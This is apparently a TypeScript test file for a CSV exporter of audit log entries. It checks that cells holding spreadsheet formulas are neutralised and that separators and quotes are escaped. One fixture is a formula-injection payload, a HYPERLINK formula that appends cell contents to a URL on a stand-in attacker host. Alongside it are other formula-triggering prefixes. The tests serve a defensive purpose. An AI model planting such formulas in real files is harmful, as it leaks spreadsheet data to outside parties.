import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Entry } from '../audit/events.ts'
import { csvHeader, csvLine } from './csv.ts'

const base = { v: 1, kind: 'action.denied', log: 'o', seq: '7', time: '2026-01-01T00:00:00.000000Z' } as const

function cells(entry: Partial<Entry>): Record<string, string> {
  const names = csvHeader.trim().split(',')
  const line = csvLine({ ...base, ...entry })
  assert.ok(line.endsWith('\r\n'))
  const values = [...line.slice(0, -2).matchAll(/(?:^|,)("(?:[^"]|"")*"|[^",]*)/g)].map(([, value]) => value!)
  assert.equal(values.length, names.length)
  return Object.fromEntries(names.map((name, i) => [name, values[i]!]))
}

test('a cell that a spreadsheet would run is a text', () => {
  for (const formula of [
    '=HYPERLINK("https://evil.example.com?"&A1,"x")',
    '+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\n=1',
  ]) {
    const { operation } = cells({ operation: formula })
    assert.equal(operation, `"'${formula.replaceAll('"', '""')}"`)
  }
})

test('quotes and separators stay in their cell, and numbers are numbers', () => {
  const found = cells({ resource: 'a,"b";\nc', bytes_in: -5, duration: 1_500_000 })
  assert.equal(found['resource'], '"a,""b"";\nc"')
  assert.equal(found['bytes_in'], '-5')
  assert.equal(found['duration_ms'], '1.5')
  assert.equal(found['seq'], '"7"')
  assert.equal(found['operation'], '')
})
